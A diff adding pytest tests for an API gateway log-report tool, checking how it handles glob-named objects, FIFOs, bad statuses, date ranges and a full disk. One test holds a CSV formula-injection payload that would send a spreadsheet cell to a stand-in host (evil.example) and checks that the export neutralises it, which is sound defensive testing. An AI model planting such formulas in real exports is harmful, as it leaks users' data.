@@ -493,3 +493,69 @@ def test_a_customer_with_two_keys_is_one_row_and_a_key_without_a_customer_id_is_
         (None, "Initech", 4),
         (None, "Hooli", 1),
     ]
+
+
+# --- hostile copies: what a reviewer found, each read as it should be ---
+
+
+def test_an_object_whose_name_reads_as_a_glob_is_read_once_and_alone(tmp_path):
+    # GIVEN objects named like glob patterns beside a plain one, each holding one request
+    folder = logs_folder(tmp_path, "2025-11-21-09")
+    for name in ("a.json.gz", "*.json.gz", "[ab].json.gz", "a?.json.gz"):
+        write_object(folder, name, [Request(at("2025-11-21T09:00:00")).record()])
+    # THEN each is counted once: four requests, not every object a pattern matches
+    data = report_json(tmp_path)
+    assert data["totals"]["requests"] == 4
+    assert data["objects"] == {"read": 4, "skipped": []}
+
+
+def test_something_that_is_not_a_regular_file_is_skipped_with_a_warning_not_waited_on(tmp_path):
+    write_requests(tmp_path, [Request(at("2025-11-21T09:00:00"))])
+    fifo = logs_folder(tmp_path, "2025-11-21-09") / "x.json"
+    os.mkfifo(fifo)
+    code, out, err = run(tmp_path, "--format", "json")
+    assert code == 0
+    assert json.loads(out)["totals"]["requests"] == 1
+    assert err.strip() == f"Warning: skipped {fifo}: not a regular file"
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    write_requests(tmp_path, [Request(at("2025-11-21T09:00:00"), customer=("cust-1", evil))])
+    code, out, _ = run(tmp_path, "--format", "csv")
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["customer_name"] == "'" + evil
+
+
+def test_a_status_that_is_no_number_counts_as_no_error_not_as_unknown(tmp_path):
+    # Trino's count_if gives 0 where no condition holds; DuckDB's gave NULL when all were NULL.
+    record = {**Request(at("2025-11-21T09:00:00")).record(), "status": "-"}
+    write_object(logs_folder(tmp_path, "2025-11-21-09"), "a.json.gz", [record])
+    (customer,) = report_json(tmp_path)["customers"]
+    assert (customer["client_errors"], customer["server_errors"]) == (0, 0)
+
+
+def test_a_page_for_records_without_a_request_time_is_still_written(tmp_path):
+    record = {**Request(at("2025-11-21T09:00:00")).record(), "request_time_epoch": "-"}
+    write_object(logs_folder(tmp_path, "2025-11-21-09"), "a.json.gz", [record])
+    code, _, err = run(tmp_path, "--html", tmp_path / "page.html")
+    assert (code, err) == (0, "")
+    assert "<svg" in (tmp_path / "page.html").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("since", ["9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00"])
+def test_a_time_that_leaves_the_calendar_once_in_utc_is_bad_input(bucket, since):
+    code, _, err = run(bucket, "--since", since)
+    assert code == 2
+    assert err.strip() == f"Error: --since {since!r}: out of range once in UTC"
+
+
+def test_a_report_that_cannot_be_written_is_one_line(bucket):
+    with Path("/dev/full").open("w") as full:
+        ran = subprocess.run(
+            [str(Path(sys.executable).parent / "apigw-logs"), "report", str(bucket), "--format", "csv"],
+            stdout=full, stderr=subprocess.PIPE, text=True, check=False,
+        )  # fmt: skip
+    assert ran.returncode == 2
+    assert ran.stderr.strip() == "Error: cannot write the report: No space left on device"
